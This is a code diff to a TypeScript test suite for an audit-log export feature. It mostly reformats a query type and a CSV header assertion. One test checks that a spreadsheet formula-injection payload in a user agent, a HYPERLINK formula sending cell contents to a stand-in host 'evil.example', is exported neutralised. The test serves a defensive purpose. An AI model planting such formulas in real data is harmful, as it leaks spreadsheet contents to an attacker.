@@ -33,7 +33,14 @@ interface EventItem {
 }
 
 const auditRows = (system: IdentitySystem, where: string, values: unknown[]) =>
-  adminQuery<{ actor_id: string; result: string; details: Record<string, unknown>; data_subject_id: string | null; data_subject_ids: string[] | null; object_ids: string[] | null }>(
+  adminQuery<{
+    actor_id: string;
+    result: string;
+    details: Record<string, unknown>;
+    data_subject_id: string | null;
+    data_subject_ids: string[] | null;
+    object_ids: string[] | null;
+  }>(
     system.target.ownerUrl,
     `select actor_id, result, details, data_subject_id, data_subject_ids, object_ids from audit_event where ${where} order by id`,
     values,
@@ -229,7 +236,10 @@ test('an export is CSV or JSON of the same filter, audited with its count before
   assert.equal(csv.statusCode, 200, csv.body);
   assert.match(csv.headers['content-type'] as string, /^text\/csv/);
   const lines = csv.body.replace(/^\uFEFF/, '').split('\r\n');
-  assert.equal(lines[0], 'id,occurredAt,actorKind,actorId,actorName,action,objectType,objectId,objectIds,dataSubjectId,dataSubjectIds,result,reason,changedFields,details,originIp,userAgent,requestId,traceId');
+  assert.equal(
+    lines[0],
+    'id,occurredAt,actorKind,actorId,actorName,action,objectType,objectId,objectIds,dataSubjectId,dataSubjectIds,result,reason,changedFields,details,originIp,userAgent,requestId,traceId',
+  );
   const injected = lines.find((line) => line.includes('HYPERLINK'));
   assert.ok(injected, 'the search with that user agent is exported');
   assert.ok(injected.includes(`"'=HYPERLINK(""http://evil.example/""&A1,""x"")"`), injected);
